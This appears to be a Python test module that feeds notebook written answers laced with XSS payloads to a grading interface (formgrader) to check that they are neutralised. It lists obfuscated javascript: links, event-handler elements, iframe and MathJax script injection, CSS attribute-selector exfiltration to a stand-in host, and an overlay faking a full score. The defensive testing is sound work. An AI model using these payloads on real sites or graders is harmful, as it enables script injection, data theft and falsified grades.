"""Written answers: Markdown, whose links, pictures and formulas become HTML when it is rendered.

Their pieces carry `pwned`. tests/browser clicks on them in formgrader.
"""

from __future__ import annotations

import base64
from typing import Any

from tests.attacks.attack import Attack, Notebook, attack
from tests.attacks.course import RIGHT_DOUBLE, RIGHT_TRIPLE, find

LINKS = """[a](javascript:pwned\\(\\)) [b](<JaVaScRiPt:pwned()>) [c][d] <javascript:pwned()>
[e](<files/javascript:pwned()>) [f](<vbscript:pwned()>)
[g](<data:text/html,<script>pwned()</script>>)

[d]: <javascript:pwned()>
"""
ENCODED = """<a href="&#106;avascript:pwned()">a</a> <a href="java&Tab;script:pwned()">b</a>
<a href="java\tscript:pwned()">c</a> <a href="&#x01;javascript:pwned()">d</a>
<a href="javascript&colon;pwned()">e</a> <a xlink:href="javascript:pwned()">f</a>"""
ELEMENTS = """<svg onload="pwned()"><a xlink:href="javascript:pwned()"><text>a</text></a></svg>

<img src="x" onerror="pwned()"> <details open ontoggle="pwned()">b</details>
<iframe srcdoc="<script>pwned()</script>"></iframe>

<math><maction actiontype="statusline" xlink:href="javascript:pwned()">c</maction></math>

<b onclick="pwned()">d</b> <script>pwned()</script>"""
FETCHED = """<base href="https://pwned.example/">
<meta http-equiv="refresh" content="0;url=//pwned">

<form action="/formgrader/api/pwned"><button formaction="//pwned">a</button></form>

<link rel="stylesheet" href="//pwned.example/a.css"> <object data="//pwned"></object>

![b](https://pwned.example/c.png) <img srcset="//pwned.example/d.png">
<video poster="//pwned"></video>
"""
STYLES = """<style>input[value^="1"] { background: url(//pwned.example/1) }</style>

<p style="background:url(//pwned.example/2)">a</p>

<div style="position:fixed;inset:0;background:white" class="pwned">Score: 5.0 / 5.0</div>"""
MATH = """<script type="text/x-mathjax-config">pwned()</script>

<script type="math/tex">\\href{javascript:pwned()}{a}</script>

<math href="javascript:pwned()"><mtext>b</mtext></math>"""
OWN_PAGES = """[a](/formgrader?path=submitted/pwned) [b](../../manage_students/pwned)
[c](?pwned) [d](//pwned.example/)

<b class="full-credit pwned">e</b> <b id="pwned">f</b> <a name="pwned">g</a>
<b data-toggle="tooltip" data-html="true" data-original-title="<img src=x onerror=pwned()>">h</b>"""


def answer(text: str, **more: Any) -> Attack:
    """A row whose written answer is `text`; its two functions are right."""
    def change(notebook: Notebook) -> None:
        find(notebook, "why")["source"] = text
        find(notebook, "why").update(more.get("cell", {}))

    return attack(more["row"], more["name"], more["title"], "script", change=change, score=5.0,
                  double=RIGHT_DOUBLE, triple=RIGHT_TRIPLE, small=more.get("small", False))


def picture(kind: str, text: str) -> dict[str, str]:
    return {kind: base64.b64encode(text.encode()).decode()}


ATTACKS = [
    answer(LINKS, row="l1", name="link", small=True,
           title="Links of a written answer to javascript:, vbscript: and data:"),
    answer(ENCODED, row="l2", name="encoded-link",
           title="Links whose scheme is written with entities, tabs or controls"),
    answer(ELEMENTS, row="l3", name="written-html",
           title="Elements and handlers in a written answer: svg, math, frames, events"),
    answer(FETCHED, row="l4", name="written-fetch",
           title="base, meta refresh, form and what loads from elsewhere in a written answer"),
    answer(STYLES, row="l5", name="written-style",
           title="Styles of a written answer that send or cover what is on the page"),
    answer(MATH, row="l6", name="written-math",
           title="Formulas with links, and a configuration of MathJax, in a written answer"),
    answer("![a](attachment:a.svg) ![b](attachment:b.png)", row="l7", name="attached",
           title="An SVG and an HTML page as attachments of a written answer",
           cell={"attachments": {
               "a.svg": picture("image/svg+xml", "<svg onload='pwned()'/>"),
               "b.png": {"text/html": "pwned' onerror='pwned()"}}}),
    answer(OWN_PAGES, row="l8", name="own-pages",
           title="Links into formgrader, and the classes and names that its scripts act on"),
]
